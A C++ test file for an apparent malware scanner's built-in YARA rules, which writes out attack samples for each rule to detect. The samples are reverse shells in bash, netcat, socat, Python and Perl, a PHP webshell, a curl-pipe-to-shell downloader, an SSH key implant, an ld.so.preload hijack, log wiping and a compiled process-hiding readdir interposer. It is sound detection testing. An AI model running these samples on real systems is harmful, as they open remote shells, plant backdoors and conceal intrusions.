// SPDX-License-Identifier: Apache-2.0
// The rule pack compiled into the engine (rules/yara/phantomguard.yar): it compiles, each rule
// fires on a sample of the technique it describes (built here: scripts as attackers write them,
// a real readdir interposer compiled with the system's compiler, an ELF carrying UPX's marker),
// and the system trees of this host give no match at all.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <fstream>
#include <iterator>
#include <filesystem>
#include <map>
#include <set>
#include <sstream>

#include "phantomguard/actors/yara/compiled_rules.hpp"
#include "phantomguard/actors/yara/rule_scanner.hpp"
#include "scratch_dir.hpp"
#include "skip.hpp"

using namespace pg::actors::yara;
namespace fs = std::filesystem;

namespace {

std::set<std::string> rules_matching(rule_scanner& s, const std::string& path) {
  std::set<std::string> out;
  for (const auto& m : s.scan_file(path).matches)
    out.insert(m.rule);
  return out;
}

std::string eicar() {
  // Assembled at run time so that this test's binary does not carry the test string.
  std::string s = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR";
  return s + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
}

bool have(const char* tool) {
  return std::system((std::string("command -v ") + tool + " >/dev/null 2>&1").c_str()) == 0;
}

} // namespace

SCENARIO("the built-in rule pack compiles and each rule finds its technique") {
  auto set = load_ruleset({std::string(builtin_rule_pack)});
  REQUIRE(set.errors.empty());
  REQUIRE(set.rules);
  rule_scanner scanner(set.rules, 30, false);
  pg::test::scratch_dir dir;

  const std::map<std::string, std::string> samples = {
      {"PG_Reverse_Shell_Script", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"},
      {"PG_PHP_Webshell", "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n"},
      {"PG_Cryptominer",
       "{\n  \"donate-level\": 1,\n  \"pools\": [{\"url\": \"stratum+tcp://pool.example.net:3333\","
       " \"algo\": \"rx/0\"}]\n}\n"},
      {"PG_Downloader_Pipe_To_Shell",
       "#!/bin/sh\ncurl -fsSL http://198.51.100.9/x.sh | sh\n"},
      {"PG_SSH_Key_Implant",
       "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAbCdEfGhIjKlMnOpQrStUvWxYz0123456789 "
       "x@y' >> /root/.ssh/authorized_keys\n"},
      {"PG_Preload_Hijack_Installer",
       "#!/bin/sh\necho /usr/local/lib/libnetfix.so > /etc/ld.so.preload\n"},
      {"PG_Log_Tampering_Script",
       "#!/bin/sh\ncat /dev/null > /var/log/wtmp\nunset HISTFILE\nhistory -c\n"},
      {"PG_Known_Linux_Malware_Names", "#!/bin/sh\npkill -f kdevtmpfsi\n"},
      {"PG_EICAR_Test_File", eicar()},
  };
  for (const auto& [rule, text] : samples) {
    auto path = dir.write(rule + ".sample", text);
    INFO(rule);
    CHECK(rules_matching(scanner, path) == std::set<std::string>{rule});
  }

  GIVEN("variants of the reverse shell seen in the wild") {
    for (const std::string& text : std::vector<std::string>{
             "nc -e /bin/sh 203.0.113.7 4444\n",
          "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n",
          "socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane\n",
          "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
          "socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); "
          "os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'\n",
          "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
          "if(connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.7\")))){open(STDIN,\">&S\");"
          "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'\n"}) {
      auto path = dir.write("variant.sh", text);
      INFO(text);
      CHECK(rules_matching(scanner, path).count("PG_Reverse_Shell_Script") == 1);
    }
  }
  GIVEN("harmless look-alikes") {
    for (const std::string& text : std::vector<std::string>{
             "#!/bin/sh\n# read /dev/tcp docs before using bash -i\nexec bash -i\n",
          "<?php echo htmlspecialchars($_GET['q']); ?>\n",
          "Install with:\n\n```\ncurl -fsSL https://example.org/install.sh | sh\n```\n" +
              std::string(4096, ' '),
          "#!/bin/sh\ncat ~/.ssh/authorized_keys\n", "ldconfig -p | grep libc.so\n",
          "# Incident notes\nThe miner looked like TeamTNT's; kdevtmpfsi was not found.\n"}) {
      auto path = dir.write("benign.txt", text);
      INFO(text);
      CHECK(rules_matching(scanner, path).empty());
    }
  }
}

SCENARIO("the pack finds a real readdir interposer compiled here, and not the C library") {
  auto set = load_ruleset({std::string(builtin_rule_pack)});
  REQUIRE(set.rules);
  rule_scanner scanner(set.rules, 30, false);
  pg::test::scratch_dir dir;
  if (!have("cc"))
    PG_SKIP("no C compiler to build the interposer sample");
  auto src = dir.write("hider.c", R"(#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
static struct dirent *(*real_readdir)(DIR *);
struct dirent *readdir(DIR *d) {
  if (!real_readdir) real_readdir = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", dirfd(d));
  struct dirent *e;
  while ((e = real_readdir(d)) && strcmp(e->d_name, "4242") == 0) {}
  return e;
}
)");
  auto so = dir.path("libhider.so");
  REQUIRE(std::system(("cc -shared -fPIC -o " + so + " " + src + " -ldl").c_str()) == 0);
  CHECK(rules_matching(scanner, so) == std::set<std::string>{"PG_Process_Hiding_Library"});
  // The C library defines readdir too, but does not call a real one through dlsym.
  for (const char* lib : {"/lib/x86_64-linux-gnu/libc.so.6", "/lib/aarch64-linux-gnu/libc.so.6"})
    if (fs::exists(lib))
      CHECK(rules_matching(scanner, lib).empty());
}

SCENARIO("the UPX rule looks for the packer's marker in an ELF's first kilobyte") {
  // Debian 12 ships no upx, so no binary is packed here: the sample is /bin/true with the
  // "UPX!" marker written where UPX puts its header (after the ELF and program headers), and
  // the same marker past the first kilobyte, where it is only data.
  auto set = load_ruleset({std::string(builtin_rule_pack)});
  REQUIRE(set.rules);
  rule_scanner scanner(set.rules, 30, false);
  pg::test::scratch_dir dir;
  std::ifstream in("/bin/true", std::ios::binary);
  std::string elf((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  REQUIRE(elf.size() > 4096);
  auto marked = elf;
  marked.replace(0x3f0, 4, "UPX!");
  auto late = elf;
  late.replace(0x800, 4, "UPX!");
  CHECK(rules_matching(scanner, dir.write("marked", marked)) ==
        std::set<std::string>{"PG_UPX_Packed_ELF"});
  CHECK(rules_matching(scanner, dir.write("late", late)).empty());
  CHECK(rules_matching(scanner, "/bin/true").empty());
}

SCENARIO("the pack matches nothing in this host's system trees") {
  auto set = load_ruleset({std::string(builtin_rule_pack)});
  REQUIRE(set.rules);
  rule_scanner scanner(set.rules, 30, true);
  std::map<std::string, std::string> hits;
  std::size_t files = 0;
  for (const char* root : {"/usr/bin", "/usr/sbin", "/etc", "/usr/lib/x86_64-linux-gnu"}) {
    std::error_code ec;
    for (fs::recursive_directory_iterator it(root, fs::directory_options::skip_permission_denied,
                                             ec),
         end;
         !ec && it != end; it.increment(ec)) {
      if (!it->is_regular_file(ec) || it->is_symlink(ec) || it->file_size(ec) > (64u << 20))
        continue;
      ++files;
      for (const auto& m : scanner.scan_file(it->path().string()).matches)
        hits[it->path().string()] = m.rule;
    }
  }
  std::ostringstream listed;
  for (const auto& [path, rule] : hits)
    listed << rule << ' ' << path << '\n';
  INFO(listed.str());
  CHECK(files > 1000);
  CHECK(hits.empty());
}

SCENARIO("a rules list may name the pack beside files, and a wrong pack name is an error") {
  pg::test::scratch_dir dir;
  auto extra = dir.write("extra.yar", "rule extra_rule { strings: $a = \"zz-extra-zz\" condition: $a }\n");
  auto set = load_ruleset({std::string(builtin_rule_pack), extra});
  CHECK(set.errors.empty());
  CHECK(set.loaded.size() == 2);
  auto bad = load_ruleset({"builtin:nosuch"});
  REQUIRE(bad.errors.size() == 1);
  CHECK_THAT(bad.errors[0].message, Catch::Contains("no built-in rule pack"));
  CHECK_FALSE(bad.rules);
  // The pack's hash is stable and differs from a file's.
  CHECK(ruleset_hash({std::string(builtin_rule_pack)}) ==
        ruleset_hash({std::string(builtin_rule_pack)}));
  CHECK(ruleset_hash({std::string(builtin_rule_pack)}) != ruleset_hash({extra}));
}
